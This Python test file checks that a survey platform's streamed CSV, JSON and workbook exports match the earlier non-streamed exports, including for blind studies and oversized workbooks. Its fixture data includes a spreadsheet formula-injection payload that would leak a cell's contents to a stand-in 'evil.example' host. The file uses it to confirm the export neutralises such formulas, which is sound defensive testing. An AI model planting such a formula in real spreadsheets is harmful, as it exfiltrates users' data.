"""Streamed exports (issue 15, point 4) write what the exports wrote before they
streamed: the same CSV bytes, the same JSON bytes, the same workbook cells, for a
standard and a blind study, whatever the size of the chunks the responses are read in.

"Before" is :mod:`tests.surveys.export_reference`, the code of the exports at the
commit before they streamed, kept unchanged.  The study has every kind of item, two
rounds (the second still open, which a blind study's export leaves out), a
"cannot judge", a draft, a group of one (masked in a blind study) and texts that a
spreadsheet would run, or that CSV and JSON must quote or escape.

Also here: the responses are read in chunks (never whole), the report reads none of
them, and a workbook too large for a spreadsheet is refused before anything is written.
"""

from __future__ import annotations

import io
import json
import random
import zipfile
from datetime import UTC, datetime, timedelta

import openpyxl
import pandas as pd
import pytest

from elicit.extensions import db
from surveys import exports
from surveys.answers import submit_responses
from surveys.exports import (
    SPREADSHEET_FOLDER,
    TABLES,
    ResponseRows,
    TooLargeForSpreadsheet,
    export_tables,
    open_export,
    submitted_texts,
    write_csv,
    write_csv_zip,
    write_json,
    write_xlsx,
)
from surveys.models import Item, Response, ResponseStatus, Study
from surveys.panel import panelist_by_pseudonym
from surveys.report import study_report
from surveys.rounds import close_round, open_round
from surveys.simulation import simulated_answers
from surveys.studies import study_definition
from tests.surveys.export_reference import (
    reference_csv_files,
    reference_csv_zip,
    reference_export_tables,
    reference_json,
    reference_open_text_counts,
    reference_xlsx,
)

#: What experts type: formulas for every spreadsheet, texts that only look like one,
#: and texts that CSV must quote and JSON escape.
TYPED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "#N/A",
    "-3",
    "+1+1",
    "@SUM(1+1)",
    'a "quoted", comma\r\nand a second line',
    "naïve — ☃ 𝔘 \u2028 back\\slash",
]
#: When the export is made (the methods table says it).
EXPORTED_AT = datetime(2025, 3, 4, 5, 6, 7, 123456, tzinfo=UTC)


@pytest.fixture(params=["standard", "blind"])
def study(request, app, make_study, make_panel, monkeypatch, built_once):
    """The demo study (standard or blind) after round 1, with round 2 open and partly
    answered; seven panelists in groups a, b and solo (built once a run:
    :func:`tests.conftest.built_once`)."""
    monkeypatch.setattr(exports, "utcnow", lambda: EXPORTED_AT)
    built = built_once(lambda: _study(request.param, make_study, make_panel), request.param)
    return db.session.get(Study, built)


def _study(anonymity: str, make_study, make_panel) -> int:
    created = make_study()
    created.anonymity = anonymity
    db.session.commit()
    links = make_panel(created, 7, groups=("a", "b", "a", "b", "a", "b", "solo"))
    panel = [panelist_by_pseudonym(db.session, created, link.pseudonym) for link in links]
    definition = study_definition(created)
    rng = random.Random(15)
    moment = datetime.now(UTC).replace(microsecond=0)
    open_round(db.session, created)
    for index, panelist in enumerate(panel):
        answers = simulated_answers(rng, definition)
        answers["rationale.trust_now"] = TYPED[index]
        answers["missing_factors"] = TYPED[-1 - index]
        if index == 0:
            answers["trust_now"] = "cannot_judge"
        # A whole second and fractions of one: ISO 8601 text with and without them.
        submit_responses(db.session, panelist, answers, now=moment + timedelta(seconds=index))
    close_round(db.session, created)
    open_round(db.session, created)
    for panelist in panel[:4]:
        submit_responses(db.session, panelist, simulated_answers(rng, definition))
    item = db.session.execute(
        db.select(Item).where(Item.study_id == created.id, Item.key == "trust_now")
    ).scalar_one()
    db.session.add(  # stored before drafts moved out of the responses
        Response(
            round_id=created.rounds[-1].id,
            panelist_id=panel[5].id,
            item_id=item.id,
            item_version=item.version,
            answer={"value": 2},
            rationale="a draft",
            status=ResponseStatus.DRAFT,
        )
    )
    db.session.commit()
    return created.id


def _zip_members(content: bytes) -> list[tuple[str, int, int, bytes]]:
    """(name, compression, attributes, bytes) of every member, in order."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            (info.filename, info.compress_type, info.external_attr, archive.read(info))
            for info in archive.infolist()
        ]


@pytest.mark.parametrize("chunk_size", [1, 4, 5_000])
def test_the_csv_zip_holds_the_same_files(study, chunk_size):
    before = reference_export_tables(db.session, study)
    expected = io.BytesIO()
    reference_csv_zip(before, expected)
    written = io.BytesIO()
    rows = write_csv_zip(open_export(db.session, study, chunk_size=chunk_size), written)
    assert _zip_members(written.getvalue()) == _zip_members(expected.getvalue())
    assert rows == len(before.responses) > 200
    # Not a comparison of two empty files: the texts are there, raw and made safe.
    with zipfile.ZipFile(written) as archive:
        raw = archive.read(f"{study.slug}/responses.csv").decode("utf-8")
        safe = archive.read(f"{study.slug}/{SPREADSHEET_FOLDER}/responses.csv").decode("utf-8-sig")
    assert '"=HYPERLINK(""http' in raw and '"\'=HYPERLINK(""http' in safe


@pytest.mark.parametrize("chunk_size", [3, 5_000])
def test_the_csv_folder_holds_the_same_files(study, chunk_size, tmp_path):
    expected = reference_csv_files(reference_export_tables(db.session, study))
    write_csv(open_export(db.session, study, chunk_size=chunk_size), tmp_path)
    written = {
        path.relative_to(tmp_path).as_posix(): path.read_bytes()
        for path in tmp_path.rglob("*")
        if path.is_file()
    }
    assert written == expected


@pytest.mark.parametrize("chunk_size", [1, 4, 5_000])
def test_the_json_document_has_the_same_bytes(study, chunk_size):
    expected = io.BytesIO()
    reference_json(reference_export_tables(db.session, study), expected)
    written = io.BytesIO()
    write_json(open_export(db.session, study, chunk_size=chunk_size), written)
    assert written.getvalue() == expected.getvalue()
    document = json.loads(written.getvalue())
    assert json.loads(expected.getvalue()) == document
    assert list(document) == ["study", "settings", *TABLES]
    assert TYPED[0] in {row["rationale"] for row in document["responses"]}


def _cells(content: bytes) -> dict[str, list[list[tuple[object, str | None]]]]:
    """Every sheet's cells as (value, type) rows; an empty cell's type is ``None`` (the
    old workbook typed some as text, with nothing in them)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        sheet.title: [
            [(cell.value, None if cell.value is None else cell.data_type) for cell in row]
            for row in sheet.iter_rows()
        ]
        for sheet in book.worksheets
    }


@pytest.mark.parametrize("chunk_size", [4, 5_000])
def test_the_workbook_has_the_same_cells(study, chunk_size):
    expected = io.BytesIO()
    reference_xlsx(reference_export_tables(db.session, study), expected)
    written = io.BytesIO()
    write_xlsx(open_export(db.session, study, chunk_size=chunk_size), written)
    cells = _cells(written.getvalue())
    assert cells == _cells(expected.getvalue())
    assert list(cells) == list(TABLES)
    column = [value for value, _ in cells["responses"][0]].index("rationale")
    rationales = [row[column] for row in cells["responses"]]
    assert (TYPED[0], "s") in rationales and ("#N/A", "s") in rationales
    header = openpyxl.load_workbook(written).worksheets[0]["A1"]
    assert header.value == "study" and header.font.bold


def test_the_tables_held_whole_are_the_same(study):
    before = reference_export_tables(db.session, study)
    now = export_tables(db.session, study)
    for name in TABLES:
        pd.testing.assert_frame_equal(getattr(now, name), getattr(before, name))
    assert now.settings == before.settings


def test_an_export_without_responses_is_the_same(app, make_study, monkeypatch, tmp_path):
    monkeypatch.setattr(exports, "utcnow", lambda: EXPORTED_AT)
    study = make_study()
    before = reference_export_tables(db.session, study)
    assert before.responses.empty
    expected, written = io.BytesIO(), io.BytesIO()
    reference_csv_zip(before, expected)
    write_csv_zip(open_export(db.session, study), written)
    assert _zip_members(written.getvalue()) == _zip_members(expected.getvalue())
    expected, written = io.BytesIO(), io.BytesIO()
    reference_json(before, expected)
    assert write_json(open_export(db.session, study), written) == 0
    assert written.getvalue() == expected.getvalue()
    expected, written = io.BytesIO(), io.BytesIO()
    reference_xlsx(before, expected)
    write_xlsx(open_export(db.session, study), written)
    assert _cells(written.getvalue()) == _cells(expected.getvalue())


def test_the_responses_are_read_a_chunk_at_a_time(study, monkeypatch):
    read: list[int] = []
    framed = exports._response_frame

    def counting(study, rows, shown):
        rows = list(rows)
        read.append(len(rows))
        return framed(study, rows, shown)

    monkeypatch.setattr(exports, "_response_frame", counting)
    expected = len(reference_export_tables(db.session, study).responses)
    assert write_json(open_export(db.session, study, chunk_size=10), io.BytesIO()) == expected
    total = sum(read)
    assert max(read) == 10 and len(read) == -(-total // 10)  # ⌈total / 10⌉ chunks


def test_the_response_rows_are_counted_from_the_answers(study):
    responses = open_export(db.session, study, chunk_size=7).responses
    assert isinstance(responses, ResponseRows)
    assert responses.count() == len(reference_export_tables(db.session, study).responses)


def test_the_report_reads_no_response_and_counts_open_answers_as_before(study, monkeypatch):
    expected = reference_open_text_counts(reference_export_tables(db.session, study).responses)
    assert submitted_texts(db.session, study) == expected
    if study.anonymity == "standard":  # the open round's answers count, as they did
        assert expected["missing_factors"] == {1: 7, 2: 4}
    else:
        assert expected["missing_factors"] == {1: 7}

    def refuse(*args, **kwargs):
        raise AssertionError("the report read the responses")

    monkeypatch.setattr(exports, "_response_frame", refuse)
    monkeypatch.setattr(exports, "_responses", refuse)
    monkeypatch.setattr(ResponseRows, "count", refuse)
    report = study_report(db.session, study, "en")
    (open_text,) = report.open_text
    assert open_text.key == "missing_factors"
    assert open_text.answers_by_round == expected["missing_factors"]


# -- a workbook too large for a spreadsheet ---------------------------------------------------


def test_a_workbook_too_large_is_refused_before_anything_is_written(study, monkeypatch, tmp_path):
    tables = reference_export_tables(db.session, study)
    limit = len(tables.responses)  # one row short of the responses and their header
    monkeypatch.setattr(exports, "SPREADSHEET_MAX_ROWS", limit)
    # The small tables are checked first; the codebook (a row per column of every
    # table and per item) can outgrow a small study's responses, as in the blind case.
    sheet, rows = next(
        (name, len(getattr(tables, name)) + 1)
        for name in sorted(TABLES, key=lambda table: table == "responses")
        if len(getattr(tables, name)) + 1 > limit
    )
    target = tmp_path / "study.xlsx"
    with pytest.raises(TooLargeForSpreadsheet) as refused:
        write_xlsx(open_export(db.session, study), target)
    assert (refused.value.sheet, refused.value.rows, refused.value.limit) == (sheet, rows, limit)
    assert f"the {sheet} sheet would need {rows:,} rows" in str(refused.value)
    assert "export as CSV" in str(refused.value)
    assert not target.exists()
    stream = io.BytesIO()
    with pytest.raises(TooLargeForSpreadsheet):
        exports.write_export(open_export(db.session, study), "xlsx", stream)
    assert stream.getvalue() == b""
    # One row fewer and it fits: the limit counts the header row.
    monkeypatch.setattr(exports, "SPREADSHEET_MAX_ROWS", rows)
    if sheet == "responses":
        write_xlsx(open_export(db.session, study), target)
        assert openpyxl.load_workbook(target)["responses"].max_row == rows


def test_the_refusal_names_the_first_sheet_that_does_not_fit(app, make_study, monkeypatch):
    study = make_study()  # no responses: the items table is the largest
    items = len(export_tables(db.session, study).items)
    monkeypatch.setattr(exports, "SPREADSHEET_MAX_ROWS", items)
    with pytest.raises(TooLargeForSpreadsheet) as refused:
        write_xlsx(open_export(db.session, study), io.BytesIO())
    assert (refused.value.sheet, refused.value.rows) == ("items", items + 1)


def test_an_export_reads_only_the_small_parts_of_the_stored_summaries(study):
    # The sorted answers of every distribution grow with the panel; the export's tables
    # need the summary rows, the subgroup rows and the settings, taken out by the
    # database exactly as stored (the same JSON, keys in their order).
    stored = exports._stored_summaries(db.session, study)
    closed = [round_ for round_ in study.rounds if round_.summary is not None]
    assert [entry.number for entry in stored] == [round_.number for round_ in closed] == [1]
    for entry, round_ in zip(stored, closed, strict=True):
        whole = round_.summary.statistics
        assert "distributions" in whole and "distributions" not in entry.statistics
        assert set(entry.statistics) == set(exports.SUMMARY_PARTS) & set(whole)
        for part, value in entry.statistics.items():
            assert json.dumps(value) == json.dumps(whole[part]), part
        assert (entry.quantile_method, entry.respondents) == (
            round_.summary.quantile_method,
            round_.summary.respondents,
        )
